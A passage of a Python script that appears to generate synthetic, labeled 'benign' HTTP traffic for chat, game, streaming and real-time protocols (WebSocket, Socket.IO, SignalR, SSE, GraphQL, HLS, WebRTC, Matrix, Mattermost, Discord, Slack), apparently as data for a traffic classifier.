    c_watermark: lambda: pick(["@StarfallTV", "LIVE • Finals Day 2", "Replay – not live", "© 2026 Example League", "Runde 3/5 — Köln"]),
    c_thumb_at: lambda: pick(["00:00:05", "00:12:31.500", "90", "01:02:03"]),
    c_backup_name: lambda: pick(["pre-update 1.21.4", "world_2026-03-14", "before raid event", "nightly"]),
    c_server_start: lambda: pick(["--port 25566", "--world-dir worlds/", "--max-players 40", "--bonusChest"]),
}


# =========================================================================
# benign traffic of the transports themselves
# =========================================================================
def b_ws_handshake():
    host = pick(H_CHAT + H_GAME + H_RT + H_DOCS + H_LIVE)
    kind = pick(["plain", "graphql", "stomp", "wamp", "cable", "phoenix", "yjs", "mqtt", "socketio", "signalr", "livekit", "nakama", "matrix-sliding"])
    ua, fam, major = browser()
    proto = None
    if kind == "plain":
        uri = pick(["/ws", "/ws/chat", "/gateway?v=10&encoding=json&compress=zlib-stream", "/game/socket?room=%s" % lower(6)])
    elif kind == "graphql":
        uri, proto = "/graphql", pick(["graphql-transport-ws", "graphql-ws"])
    elif kind == "stomp":
        uri, proto = "/stomp/%d/%s/websocket" % (R.randint(100, 999), lower(8)), "v12.stomp, v11.stomp, v10.stomp"
    elif kind == "wamp":
        uri, proto = "/ws", "wamp.2.json, wamp.2.msgpack"
    elif kind == "cable":
        uri, proto = "/cable", "actioncable-v1-json, actioncable-unsupported"
    elif kind == "phoenix":
        uri = "/live/websocket?_csrf_token=%s&_track_static%%5B0%%5D=https%%3A%%2F%%2F%s%%2Fassets%%2Fapp.css&_mounts=0&vsn=2.0.0" % (alnum(40, B64U), host)
    elif kind == "yjs":
        uri = "/yjs/%s" % pick(["doc-" + uid(), "board:%s" % lower(10), "notes%2F" + lower(8)])
    elif kind == "mqtt":
        uri, proto = pick(["/mqtt", "/ws/mqtt"]), pick(["mqtt", "mqttv3.1"])
    elif kind == "socketio":
        uri = "/socket.io/?EIO=4&transport=websocket&sid=%s" % sid_engineio()
    elif kind == "signalr":
        uri = "%s?id=%s" % (pick(["/hubs/chat", "/chathub"]), alnum(22, B64U))
        if chance(0.5):
            uri += "&access_token=" + jwt()
    elif kind == "livekit":
        uri = "/rtc?access_token=%s&auto_subscribe=1&sdk=js&version=2.5.7&protocol=15&adaptive_stream=1" % jwt()
    elif kind == "nakama":
        uri = "/ws?lang=en&status=true&token=%s" % jwt()
    else:
        uri = "/_matrix/client/unstable/org.matrix.simplified_msc3575/sync?pos=%s&timeout=30000" % digits(5)
    h = [["Host", host], ["Connection", "Upgrade"], ["Pragma", "no-cache"], ["Cache-Control", "no-cache"], ["User-Agent", ua],
         ["Upgrade", "websocket"], ["Origin", "https://" + host], ["Sec-WebSocket-Version", "13"],
         ["Accept-Encoding", "gzip, deflate, br"], ["Accept-Language", pick(LANGS)]]
    if chance(0.6):
        h.append(["Cookie", cookie_web()])
    h.append(["Sec-WebSocket-Key", b64(rbytes(16))])
    if fam != "safari" or chance(0.5):
        h.append(["Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"])
    if proto:
        h.append(["Sec-WebSocket-Protocol", proto])
    if fam == "firefox":  # Firefox sends "keep-alive, Upgrade"
        h[1] = ["Connection", "keep-alive, Upgrade"]
    emit("benign", None, "websocket", "GET", uri, h)


def b_ws_native():
    host = pick(H_GAME + H_RT)
    h = [["Host", host], ["Upgrade", "websocket"], ["Connection", "Upgrade"], ["Sec-WebSocket-Key", b64(rbytes(16))],
         ["Sec-WebSocket-Version", "13"], ["User-Agent", pick(GAME_UAS + ["Go-http-client/1.1", "websocket-sharp/1.0", "NativeWebSocket/1.1.4"])]]
    if chance(0.5):
        h.append(["Authorization", bearer()])
    if chance(0.4):
        h.append(["Sec-WebSocket-Protocol", pick(["binary", "game.v3", "msgpack", "json"])])
    emit("benign", None, "websocket", "GET", pick(["/ws", "/game", "/relay/%s" % lower(8), "/v1/realtime?client=unity"]), h)


def b_socketio_transport():
    host = pick(H_CHAT + H_GAME + H_DOCS)
    sid = sid_engineio()
    k = R.random()
    if k < 0.3:  # handshake
        uri = "/socket.io/?EIO=4&transport=polling&t=%s" % yeast()
        if chance(0.3):
            uri = "/socket.io/?EIO=3&transport=polling&t=%s&b64=1" % yeast()
        emit("benign", None, "socketio", "GET", uri, web(host, accept="*/*", origin=False))
    elif k < 0.45:  # long-poll GET
        emit("benign", None, "socketio", "GET", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid),
             web(host, accept="*/*", origin=False, cookie_extra=["io=" + sid]))
    elif k < 0.6:  # namespace connect with auth payload
        body = "40" + pick(["", "/chat,", "/admin,"]) + J({"token": jwt()})
        emit("benign", None, "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid),
             web(host, accept="*/*"), body, "text/plain;charset=UTF-8")
    elif k < 0.7:  # pong / several packets
        pk = ["3", "42" + J(["typing", {"room": "general", "typing": True}]), "42" + J(["presence", {"status": "away"}])]
        emit("benign", None, "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid),
             web(host, accept="*/*"), "\x1e".join(pk[:R.randint(1, 3)]), "text/plain;charset=UTF-8")
    elif k < 0.8:  # binary attachment placeholder plus base64 binary packet
        pkt = "451-" + J(["upload", {"name": "clip.webm", "data": {"_placeholder": True, "num": 0}}])
        body = pkt + "\x1e" + "b" + b64(rbytes(R.randint(40, 300)))
        emit("benign", None, "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid),
             web(host, accept="*/*"), body, "text/plain;charset=UTF-8")
    elif k < 0.9:  # upgrade probe
        emit("benign", None, "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid),
             web(host, accept="*/*"), "5", "text/plain;charset=UTF-8")
    else:  # game state event with a nested structure
        st = {"tick": R.randint(1000, 900000), "players": [{"id": lower(6), "x": round(R.uniform(-500, 500), 2), "y": round(R.uniform(-500, 500), 2),
                                                             "hp": R.randint(0, 100), "ammo": [R.randint(0, 30), R.randint(0, 120)]} for _ in range(R.randint(2, 8))]}
        emit("benign", None, "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid),
             web(host, accept="*/*"), "42/game," + J(["state", st]), "text/plain;charset=UTF-8")


def b_signalr_transport():
    host = pick(H_CHAT + H_GAME)
    hub = pick(["/hubs/chat", "/chathub", "/hub/game", "/hubs/notifications"])
    k = R.random()
    xh = [["X-Requested-With", "XMLHttpRequest"], ["X-SignalR-User-Agent", "Microsoft SignalR/8.0 (8.0.7; Unknown OS; Browser; Unknown Runtime Version)"]]
    if k < 0.35:
        emit("benign", None, "signalr", "POST", hub + "/negotiate?negotiateVersion=1", web(host, accept="*/*", extra=xh, auth=bearer() if chance(0.5) else None),
             "", "text/plain;charset=UTF-8")
    elif k < 0.55:
        emit("benign", None, "signalr", "POST", "%s?id=%s" % (hub, alnum(22, B64U)), web(host, accept="*/*", extra=xh),
             J({"protocol": pick(["json", "messagepack"]), "version": 1}) + "\x1e", "text/plain;charset=UTF-8")
    elif k < 0.75:
        emit("benign", None, "signalr", "GET", "%s?id=%s&_=%d" % (hub, alnum(22, B64U), ts_ms()), web(host, accept="*/*", origin=False, extra=xh))
    elif k < 0.85:  # ping and a completion
        emit("benign", None, "signalr", "POST", "%s?id=%s" % (hub, alnum(22, B64U)), web(host, accept="*/*", extra=xh),
             J({"type": 6}) + "\x1e" + J({"type": 1, "target": "JoinGroup", "arguments": ["match-" + digits(6)]}) + "\x1e", "text/plain;charset=UTF-8")
    else:  # Azure SignalR Service client negotiate
        emit("benign", None, "signalr", "POST", "/client/negotiate?hub=%s&asrs.op=%%2Fhubs%%2Fchat&negotiateVersion=1&asrs_request_id=%s" % (
            pick(["chat", "game"]), alnum(16, B64U)), web(host, accept="*/*", extra=xh, auth=bearer()), "", "text/plain;charset=UTF-8")


def b_sse():
    host = pick(H_RT + H_CHAT + H_LIVE)
    k = R.random()
    if k < 0.4:
        topics = [pick(["https://example.com/books/{id}", "https://%s/rooms/%s" % (pick(H_CHAT), digits(3)), "/users/%s/notifications" % digits(6), "*"])
                  for _ in range(R.randint(1, 3))]
        uri = "/.well-known/mercure?" + "&".join("topic=" + q(t) for t in topics)
        if chance(0.3):
            uri += "&lastEventID=urn:uuid:" + uid()
        h = web(host, accept="text/event-stream", origin=False, extra=[["Cache-Control", "no-cache"]],
                cookie_extra=["mercureAuthorization=" + jwt()])
    elif k < 0.7:
        uri = pick(["/events", "/api/stream", "/v1/notifications/stream", "/sse/matches/%s" % digits(6)])
        h = web(host, accept="text/event-stream", origin=False, extra=[["Cache-Control", "no-cache"]] +
                ([["Last-Event-ID", pick([str(R.randint(1, 99999)), uid(), "%d-%d" % (ts_ms(), R.randint(0, 9))])]] if chance(0.6) else []))
    else:  # GraphQL over SSE subscription
        body = {"query": "subscription OnMessageAdded($roomId: ID!) { messageAdded(roomId: $roomId) { id body author { name } } }",
                "variables": {"roomId": digits(4)}, "operationName": "OnMessageAdded"}
        emit("benign", None, "graphql", "POST", "/graphql/stream", web(host, accept="text/event-stream", auth=bearer()), J(body), "application/json")
        return
    emit("benign", None, "sse", "GET", uri, h)


def b_graphql_misc():
    host = pick(H_CHAT + H_GAME)
    k = R.random()
    if k < 0.5:  # automatic persisted query GET
        var = {"roomId": digits(4), "first": 30, "after": b64("cursor:%d" % R.randint(1, 900))}
        uri = "/graphql?operationName=RoomMessages&variables=%s&extensions=%s" % (
            q(J(var)), q(J({"persistedQuery": {"version": 1, "sha256Hash": hexs(64)}})))
        emit("benign", None, "graphql", "GET", uri, web(host, accept="application/json", origin=False, auth=bearer(),
                                                         extra=[["apollo-require-preflight", "true"]]))
    elif k < 0.75:
        body = {"operationName": "Inventory", "variables": {"filter": {"rarity": ["EPIC", "LEGENDARY"], "equipped": False}, "first": 40},
                "extensions": {"persistedQuery": {"version": 1, "sha256Hash": hexs(64)}}}
        emit("benign", None, "graphql", "POST", "/graphql", web(host, accept="application/json", auth=bearer()), J(body), "application/json")
    else:
        body = [{"query": "query Me { me { id name level avatarUrl } }"},
                {"query": "query Friends($first: Int) { friends(first: $first) { edges { node { id name presence { status } } } } }",
                 "variables": {"first": 50}}]
        emit("benign", None, "graphql", "POST", "/graphql", web(host, accept="application/json", auth=bearer()), J(body), "application/json")


def b_hls_dash():
    host = pick(H_CDN)
    ua, fam, _ = browser()
    stream = lower(10)
    k = R.random()
    if k < 0.25:
        uri = "/hls/live/%s/master.m3u8" % stream + pick(["", "?token=%s&expires=%d" % (hexs(32), ts()), "?_HLS_msn=%d&_HLS_part=%d&_HLS_skip=YES" % (R.randint(100, 9000), R.randint(0, 4))])
    elif k < 0.5:
        uri = "/hls/live/%s/%s/seg_%06d.ts" % (stream, pick(["1080p60", "720p30", "480p", "audio_only"]), R.randint(0, 999999))
    elif k < 0.65:
        uri = "/dash/%s/manifest.mpd" % uid()
    elif k < 0.8:
        uri = "/dash/%s/chunk-stream%d-%05d.m4s" % (uid(), R.randint(0, 3), R.randint(1, 99999))
    elif k < 0.9:
        uri = "/vod/%s/%s/init-$RepresentationID$.mp4".replace("$RepresentationID$", pick(["v1", "v2", "a1"])) % (digits(6), pick(["h264", "av1"]))
    else:
        uri = "/hls/vod/%s/index.m3u8?Policy=%s&Signature=%s&Key-Pair-Id=K%s" % (uid(), b64url(J({"Statement": [{"Resource": "*"}]})), alnum(120, B64U), alnum(13, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"))
    h = [["Host", host], ["User-Agent", ua], ["Accept", "*/*"], ["Origin", "https://" + pick(H_LIVE)],
         ["Referer", "https://%s/" % pick(H_LIVE)], ["Accept-Encoding", pick(["identity", "gzip, deflate, br"])], ["Accept-Language", pick(LANGS)]]
    if chance(0.25):
        a = R.randint(0, 4000000)
        h.append(["Range", "bytes=%d-%d" % (a, a + R.randint(10000, 900000))])
    if chance(0.2):
        h = [["Host", host], ["User-Agent", pick(["AppleCoreMedia/1.0.0.21E236 (iPhone; U; CPU OS 17_4 like Mac OS X; en_us)", "ExoPlayerLib/2.19.1",
                                                  "VLC/3.0.20 LibVLC/3.0.20", "Lavf/60.16.100", "stagefright/1.2 (Linux;Android 14)"])],
             ["Accept", "*/*"], ["Connection", "keep-alive"]]
    emit("benign", None, "hls", "GET", uri, h)


SDP_TMPL = ("v=0\r\no=- {sess} 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0 1\r\na=extmap-allow-mixed\r\n"
            "a=msid-semantic: WMS {msid}\r\n"
            "m=audio 9 UDP/TLS/RTP/SAVPF 111 63 9 0 8 13 110 126\r\nc=IN IP4 0.0.0.0\r\na=rtcp:9 IN IP4 0.0.0.0\r\n"
            "a=ice-ufrag:{ufrag}\r\na=ice-pwd:{pwd}\r\na=ice-options:trickle\r\n"
            "a=fingerprint:sha-256 {fp}\r\na=setup:actpass\r\na=mid:0\r\n"
            "a=extmap:1 urn:ietf:params:rtp-hdrext:ssrc-audio-level\r\na=sendrecv\r\na=msid:{msid} {track}\r\na=rtcp-mux\r\n"
            "a=rtpmap:111 opus/48000/2\r\na=rtcp-fb:111 transport-cc\r\na=fmtp:111 minptime=10;useinbandfec=1\r\n"
            "a=ssrc:{ssrc} cname:{cname}\r\n"
            "m=video 9 UDP/TLS/RTP/SAVPF 96 97 102 103\r\nc=IN IP4 0.0.0.0\r\na=rtcp:9 IN IP4 0.0.0.0\r\n"
            "a=ice-ufrag:{ufrag}\r\na=ice-pwd:{pwd}\r\na=fingerprint:sha-256 {fp}\r\na=setup:actpass\r\na=mid:1\r\n"
            "a=sendrecv\r\na=rtcp-mux\r\na=rtcp-rsize\r\na=rtpmap:96 VP8/90000\r\na=rtcp-fb:96 goog-remb\r\na=rtcp-fb:96 nack\r\n"
            "a=rtcp-fb:96 nack pli\r\na=rtpmap:97 rtx/90000\r\na=fmtp:97 apt=96\r\n"
            "a=rtpmap:102 H264/90000\r\na=fmtp:102 level-asymmetry-allowed=1;packetization-mode=1;profile-level-id=42001f\r\n"
            "a=ssrc-group:FID {ssrc2} {ssrc3}\r\na=ssrc:{ssrc2} cname:{cname}\r\n")


def sdp():
    fp = ":".join(hexs(2).upper() for _ in range(32))
    return SDP_TMPL.format(sess=digits(19), msid=uid(), ufrag=alnum(4), pwd=alnum(24, B64C), fp=fp, track=uid(),
                           ssrc=digits(10), ssrc2=digits(10), ssrc3=digits(10), cname=alnum(16, B64C))


def ice_candidate():
    ip = pick(["192.168.1.%d" % R.randint(2, 254), "10.0.%d.%d" % (R.randint(0, 255), R.randint(2, 254)), "172.20.10.%d" % R.randint(2, 14),
               "203.0.113.%d" % R.randint(2, 254), "%s.local" % uid(), "2001:db8::%x" % R.randint(1, 65535)])
    typ = pick(["host", "srflx", "relay"])
    c = "candidate:%s 1 %s %d %s %d typ %s" % (digits(10), pick(["udp", "udp", "tcp"]), R.randint(1, 2130706431), ip, R.randint(1024, 65535), typ)
    if typ != "host":
        c += " raddr %s rport %d" % (pick(["192.168.1.%d" % R.randint(2, 254), "0.0.0.0", "10.8.0.%d" % R.randint(2, 254)]), R.randint(1024, 65535))
    if "tcp" in c:
        c += " tcptype " + pick(["active", "passive"])
    return c + " generation 0 ufrag %s network-id %d" % (alnum(4), R.randint(1, 4))


def b_webrtc():
    host = pick(H_LIVE + H_RT)
    k = R.random()
    if k < 0.25:  # WHIP / WHEP offer
        path = pick(["/whip/endpoint/%s" % lower(12), "/rtc/v1/whip/?app=live&stream=%s" % lower(8), "/whep/%s" % lower(10)])
        h = native(host, ua=pick(["OBS-Studio/30.2.0 (Windows)", "gst-whip/1.24", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"]),
                   accept="application/sdp", auth="Bearer " + alnum(32))
        emit("benign", None, "whip", "POST", path, h, sdp(), "application/sdp")
    elif k < 0.4:  # trickle ICE PATCH (RFC 8840 fragment)
        frag = "a=ice-ufrag:%s\r\na=ice-pwd:%s\r\nm=audio 9 UDP/TLS/RTP/SAVPF 111\r\na=mid:0\r\na=%s\r\n" % (alnum(4), alnum(24, B64C), ice_candidate())
        h = native(host, ua="OBS-Studio/30.2.0 (Windows)", accept="*/*", auth="Bearer " + alnum(32), extra=[["If-Match", '"%s"' % hexs(8)]])
        emit("benign", None, "whip", "PATCH", "/whip/resource/%s" % uid(), h, frag, "application/trickle-ice-sdpfrag")
    elif k < 0.6:  # app signalling: offer / candidate over REST
        if chance(0.5):
            body = {"type": "offer", "sdp": sdp(), "peerId": lower(8), "room": "call-" + lower(6)}
        else:
            body = {"type": "candidate", "candidate": {"candidate": ice_candidate(), "sdpMid": pick(["0", "1"]), "sdpMLineIndex": R.randint(0, 1),
                                                       "usernameFragment": alnum(4)}, "to": lower(8)}
        emit("benign", None, "signalling", "POST", "/api/calls/%s/signal" % lower(10), web(host, accept="application/json", auth=bearer()), J(body), "application/json")
    elif k < 0.8:  # Janus
        sess, handle = digits(16), digits(16)
        if chance(0.4):
            emit("benign", None, "janus", "GET", "/janus/%s?rid=%d&maxev=10&_=%d" % (sess, ts_ms(), ts_ms()), web(host, accept="*/*", origin=False))
        else:
            body = pick([{"janus": "message", "body": {"request": "join", "room": R.randint(1000, 9999), "ptype": "publisher", "display": pick(NICKS)}, "transaction": alnum(12)},
                         {"janus": "message", "body": {"request": "configure", "audio": True, "video": True}, "jsep": {"type": "offer", "sdp": sdp()}, "transaction": alnum(12)},
                         {"janus": "trickle", "candidate": {"candidate": ice_candidate(), "sdpMid": "0", "sdpMLineIndex": 0}, "transaction": alnum(12)},
                         {"janus": "keepalive", "session_id": int(sess), "transaction": alnum(12)}])
            emit("benign", None, "janus", "POST", "/janus/%s/%s" % (sess, handle), web(host, accept="*/*"), J(body), "application/json")
    else:  # LiveKit server API (Twirp)
        m = pick([("CreateRoom", {"name": "room-" + lower(6), "empty_timeout": 300, "max_participants": 20, "metadata": J({"title": pick(STREAM_TITLES)})}),
                  ("ListParticipants", {"room": "room-" + lower(6)}),
                  ("MutePublishedTrack", {"room": "room-" + lower(6), "identity": lower(8), "track_sid": "TR_" + alnum(12), "muted": True}),
                  ("UpdateParticipant", {"room": "room-" + lower(6), "identity": lower(8), "metadata": J({"role": "speaker", "hand": False}),
                                         "permission": {"can_publish": True, "can_subscribe": True}})])
        h = native(host, ua="livekit-server-sdk-go/2.1.1", auth="Bearer " + jwt({"video": {"roomAdmin": True}}))
        emit("benign", None, "livekit", "POST", "/twirp/livekit.RoomService/%s" % m[0], h, J(m[1]), "application/json")


def b_matrix_misc():
    host = pick(H_MATRIX)
    tok = "Bearer syt_" + alnum(40)
    h = native(host, ua=pick(MOBILE_UAS[4:7] + DESKTOP_UAS[2:3]), auth=tok)
    rid = q(room_id(host))
    k = R.randint(0, 11)
    if k == 0:
        flt = J({"room": {"timeline": {"limit": 20}, "state": {"lazy_load_members": True}}, "presence": {"not_types": ["*"]}})
        emit("benign", None, "matrix", "GET", "/_matrix/client/v3/sync?filter=%s&since=s%d_%d_%d_%d&timeout=30000&set_presence=%s" % (
            q(flt), R.randint(1, 999999), R.randint(1, 9999), R.randint(1, 999), R.randint(1, 99), pick(["online", "unavailable"])), h)
    elif k == 1:
        emit("benign", None, "matrix", "PUT", "/_matrix/client/v3/rooms/%s/typing/%s" % (rid, q(mx_user(server=host))), h,
             J({"typing": True, "timeout": 30000}), "application/json")
    elif k == 2:
        emit("benign", None, "matrix", "POST", "/_matrix/client/v3/rooms/%s/receipt/m.read/%s" % (rid, q("$" + alnum(43, B64U))), h,
             J({"thread_id": "main"}), "application/json")
    elif k == 3:  # Megolm-encrypted message
        body = {"algorithm": "m.megolm.v1.aes-sha2", "sender_key": alnum(43, B64C), "ciphertext": "AwgA" + alnum(R.randint(200, 900), B64C),
                "session_id": alnum(43, B64C), "device_id": alnum(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")}
        emit("benign", None, "matrix", "PUT", "/_matrix/client/v3/rooms/%s/send/m.room.encrypted/%s" % (rid, mx_txn()), h, J(body), "application/json")
    elif k == 4:
        body = {"device_keys": {"algorithms": ["m.olm.v1.curve25519-aes-sha2", "m.megolm.v1.aes-sha2"], "device_id": alnum(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"),
                                "keys": {"curve25519:DEV": alnum(43, B64C), "ed25519:DEV": alnum(43, B64C)}, "user_id": mx_user(server=host),
                                "signatures": {mx_user(server=host): {"ed25519:DEV": alnum(86, B64C)}}},
                "one_time_keys": {"signed_curve25519:AAAAA%s" % alnum(4): {"key": alnum(43, B64C), "signatures": {mx_user(server=host): {"ed25519:DEV": alnum(86, B64C)}}}}}
        emit("benign", None, "matrix", "POST", "/_matrix/client/v3/keys/upload", h, J(body), "application/json")
    elif k == 5:
        emit("benign", None, "matrix", "GET", "/_matrix/client/v3/rooms/%s/messages?from=t%d-%d_%d_%d&dir=b&limit=30&filter=%s" % (
            rid, R.randint(1, 99), R.randint(1, 999999), R.randint(1, 9999), R.randint(1, 999), q(J({"lazy_load_members": True}))), h)
    elif k == 6:
        emit("benign", None, "matrix", "POST", "/_matrix/client/v3/login", native(host, ua=pick(MOBILE_UAS[4:7])),
             J({"type": "m.login.password", "identifier": {"type": "m.id.user", "user": pick(["alice", "bob", "yuki"])}, "password": alnum(16),
                "initial_device_display_name": pick(["Element Android", "Element Desktop: Linux", "Element iOS"])}), "application/json")
    elif k == 7:  # reply with mx-reply HTML
        quoted = pick(CHAT)
        html = ('<mx-reply><blockquote><a href="https://matrix.to/#/%s/%s">In reply to</a> <a href="https://matrix.to/#/%s">%s</a><br>%s</blockquote></mx-reply>%s' % (
            room_id(host), "$" + alnum(43, B64U), mx_user(server=host), pick(NICKS), quoted.replace("<", "&lt;").replace(">", "&gt;"), "<strong>agreed</strong> 👍"))
        content = {"msgtype": "m.text", "body": "> <%s> %s\n\nagreed 👍" % (mx_user(server=host), quoted), "format": "org.matrix.custom.html", "formatted_body": html,
                   "m.relates_to": {"m.in_reply_to": {"event_id": "$" + alnum(43, B64U)}}}
        emit("benign", None, "matrix", "PUT", "/_matrix/client/v3/rooms/%s/send/m.room.message/%s" % (rid, mx_txn()), h, J(content), "application/json")
    elif k == 8:  # HTML message with code
        html = pick(['<p>run <code>cargo test --release</code> first</p>', '<pre><code class="language-python">print(&quot;hello&quot;)\n</code></pre>',
                     '<ul><li>raid at 21:00</li><li>bring <em>potions</em></li></ul>', '<a href="https://example.org/wiki/Elo_rating_system">Elo</a> explained',
                     '<font color="#ff0000">red team</font> wins', '<del>old plan</del> new plan: <b>rush B</b>', '<span data-mx-spoiler="">the boss dies</span>',
                     '<img src="mxc://%s/%s" alt=":party:" height="32" data-mx-emoticon>' % (host, alnum(24))])
        plain = html
        for tag in ("<p>", "</p>", "<code>", "</code>", "<pre>", "</pre>", "<ul>", "</ul>", "<li>", "</li>", "<em>", "</em>", "<b>", "</b>", "<del>", "</del>", "</a>", "</font>", "</span>"):
            plain = plain.replace(tag, " ")
        c_matrix("benign", None, plain.split("<")[0].strip() or ":party:", html=html)
    elif k == 9:
        emit("benign", None, "matrix", "PUT", "/_matrix/client/v3/sendToDevice/m.room.encrypted/%s" % mx_txn(), h,
             J({"messages": {mx_user(server=host): {alnum(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"): {"algorithm": "m.olm.v1.curve25519-aes-sha2", "sender_key": alnum(43, B64C),
                                                                                               "ciphertext": {alnum(43, B64C): {"type": 0, "body": alnum(600, B64C)}}}}}}), "application/json")
    elif k == 10:
        emit("benign", None, "matrix", "GET", "/_matrix/client/v1/media/thumbnail/%s/%s?width=96&height=96&method=crop&animated=true" % (host, alnum(24)), h)
    else:
        emit("benign", None, "matrix", "PUT", "/_matrix/client/v3/rooms/%s/send/m.reaction/%s" % (rid, mx_txn()), h,
             J({"m.relates_to": {"rel_type": "m.annotation", "event_id": "$" + alnum(43, B64U), "key": pick(["👍", "😂", "🎉", "❤️", "✅"])}}), "application/json")


def b_chatops_misc():
    k = R.randint(0, 13)
    if k == 0:
        host = pick(H_MM)
        emit("benign", None, "mattermost", "GET", "/api/v4/channels/%s/posts?page=0&per_page=60&skipFetchThreads=false&collapsedThreads=true" % mm_id(),
             web(host, accept="*/*", origin=False, extra=[["X-Requested-With", "XMLHttpRequest"]], cookie_extra=["MMAUTHTOKEN=" + mm_id()]))
    elif k == 1:
        host = pick(H_MM)
        emit("benign", None, "mattermost", "POST", "/api/v4/commands/execute", web(host, accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"], ["X-CSRF-Token", mm_id()]]),
             J({"command": pick(["/jira create \"Lobby crash on join\" --priority high", "/poll \"Next map?\" Harbor Foundry Citadel", "/away", "/giphy gg", "/remind me in 2 hours to check the build"]),
                "channel_id": mm_id(), "team_id": mm_id(), "root_id": "", "parent_id": ""}), "application/json")
    elif k == 2:
        host = pick(H_MM)
        emit("benign", None, "mattermost", "POST", "/api/v4/users/status/ids", web(host, accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"]]),
             J([mm_id() for _ in range(R.randint(2, 12))]), "application/json")
    elif k == 3:  # Rocket.Chat DDP loadHistory with EJSON dates
        host = pick(H_RC)
        inner = {"msg": "method", "method": "loadHistory", "params": [pick(["GENERAL", rc_id()]), {"$date": ts_ms()}, 50, {"$date": ts_ms()}, False],
                 "id": str(R.randint(5, 200))}
        emit("benign", None, "rocketchat", "POST", "/sockjs/%d/%s/xhr_send" % (R.randint(100, 999), lower(8)), web(host, accept="*/*"),
             J([J(inner)]), "text/plain;charset=UTF-8")
    elif k == 4:  # Rocket.Chat DDP connect / sub / ping
        host = pick(H_RC)
        frames = pick([[{"msg": "connect", "version": "1", "support": ["1", "pre2", "pre1"]}],
                       [{"msg": "sub", "id": alnum(17), "name": "stream-room-messages", "params": [rc_id(), {"useCollection": False, "args": []}]}],
                       [{"msg": "pong"}], [{"msg": "method", "method": "UserPresence:setDefaultStatus", "params": ["away"], "id": "9"}]])
        emit("benign", None, "rocketchat", "POST", "/sockjs/%d/%s/xhr_send" % (R.randint(100, 999), lower(8)), web(host, accept="*/*"),
             J([J(f) for f in frames]), "text/plain;charset=UTF-8")
    elif k == 5:  # Rocket.Chat REST reads
        host = pick(H_RC)
        emit("benign", None, "rocketchat", "GET", pick(["/api/v1/channels.history?roomId=GENERAL&latest=%s&count=50" % q(iso()),
                                                         "/api/v1/users.info?username=%s" % q(pick(["alice", "o.neil", "zoë"])),
                                                         "/api/v1/subscriptions.get?updatedSince=%s" % q(iso()), "/api/v1/me"]),
             native(host, ua=MOBILE_UAS[8], extra=[["X-Auth-Token", alnum(43, B64U)], ["X-User-Id", rc_id()]]))
    elif k == 6:  # Discourse message-bus long polling
        host = pick(H_FORUM)
        pairs = [("/latest", str(R.randint(1, 9999))), ("/new", str(R.randint(1, 999))), ("/notification/%s" % digits(3), str(R.randint(1, 999))),
                 ("/topic/%s" % digits(4), str(R.randint(-1, 99))), ("__seq", str(R.randint(1, 90)))]
        emit("benign", None, "discourse", "POST", "/message-bus/%s/poll" % hexs(32),
             web(host, accept="text/plain, */*; q=0.01", extra=[["X-SILENCE-LOGGER", "true"], ["Dont-Chunk", "true"], ["X-CSRF-Token", alnum(86, B64U)]]),
             form(pairs[:R.randint(2, 5)]), "application/x-www-form-urlencoded; charset=UTF-8")
    elif k == 7:
        host = pick(H_FORUM)
        emit("benign", None, "discourse", "GET", pick(["/t/%s/%s.json?track_visit=true&forceLoad=true" % (pick(["patch-1-4-discussion", "best-builds-2026", "lfg-eu"]), digits(4)),
                                                        "/search/query.json?term=%s&include_blurbs=true" % qb(pick(["matchmaking timeout", "crash on join", "ランク"])),
                                                        "/latest.json?order=activity&no_definitions=true&page=%d" % R.randint(0, 5)]),
             web(host, accept="application/json, text/javascript, */*; q=0.01", origin=False, extra=[["Discourse-Present", "true"]]))
    elif k == 8:  # Discord misc
        host = pick(["chat.example.com", "app.guilds.example.net"])
        h = native(host, ua=DESKTOP_UAS[0], accept="*/*", auth=discord_token(), extra=[["X-Super-Properties", super_props()]])
        m = pick([("POST", "/api/v10/channels/%s/typing" % snowflake(), None), ("PATCH", "/api/v10/users/@me/settings-proto/1", J({"settings": b64(rbytes(60))})),
                  ("PUT", "/api/v10/channels/%s/messages/%s/reactions/%s/%%40me?location=Message&type=0" % (snowflake(), snowflake(), q("🔥")), None),
                  ("GET", "/api/v10/channels/%s/messages?limit=50&before=%s" % (snowflake(), snowflake()), None)])
        if m[2] is None and m[0] != "GET":
            emit("benign", None, "discord", m[0], m[1], h, "", None)
        else:
            emit("benign", None, "discord", m[0], m[1], h, m[2], "application/json" if m[2] else None)
    elif k == 9:  # Slack misc
        host = pick(["slack.example.com", "workspace.example.net"])
        h = native(host, ua=pick(SERVER_UAS[:3]), auth="Bearer xoxb-%s-%s-%s" % (digits(12), digits(13), alnum(24)))
        if chance(0.5):
            emit("benign", None, "slack", "GET", "/api/conversations.history?channel=C0%s&limit=100&cursor=%s" % (alnum(9, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), q(b64("next_ts:%d" % ts()))), h)
        else:
            emit("benign", None, "slack", "POST", "/api/users.profile.set", h,
                 J({"profile": {"status_text": pick(["In a meeting", "Streaming 🎥", "Vacationing 🌴", "commuting"]), "status_emoji": pick([":calendar:", ":palm_tree:", ":bus:"]), "status_expiration": 0}}),
                 "application/json; charset=utf-8")
    elif k == 10:  # Twitch-style reads
        host = pick(H_LIVE)
        h = native(host, ua=pick(SERVER_UAS), auth="Bearer " + lower(30), extra=[["Client-Id", lower(30)]])
